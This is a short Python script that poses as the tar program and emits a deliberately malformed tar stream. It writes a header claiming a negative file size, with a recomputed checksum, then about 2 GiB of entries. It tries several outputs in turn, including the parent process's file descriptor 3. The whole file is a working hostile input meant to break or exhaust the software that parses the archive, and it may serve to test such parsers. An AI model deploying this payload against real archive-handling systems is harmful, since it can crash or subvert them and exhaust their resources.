"""Writes an archive in tar's place, whose headers say that files are smaller than nothing."""

import os
import tarfile
from contextlib import suppress

WAYS = ("/io/out", f"/proc/{os.getppid()}/fd/3", "/dev/fd/3", "/dev/stdout")
PIECE = bytes(1 << 20)
PIECES = 2048


def header(name: str, size: bytes) -> bytes:
    """A header of tar, with a size as it is wanted."""
    block = bytearray(tarfile.TarInfo(name).tobuf(tarfile.GNU_FORMAT))
    block[124:136] = size.ljust(12, b"\0")
    block[148:156] = b"%06o\0 " % (sum(block) - sum(block[148:156]) + 8 * 0x20)
    return bytes(block)


for way in WAYS:
    with suppress(OSError), open(way, "wb", buffering=0) as pipe:
        pipe.write(header("nothing", b"-77777777000"))
        for number in range(PIECES):
            pipe.write(header(f"f{number}", b"%o" % len(PIECE)) + PIECE)
        pipe.write(bytes(1024))
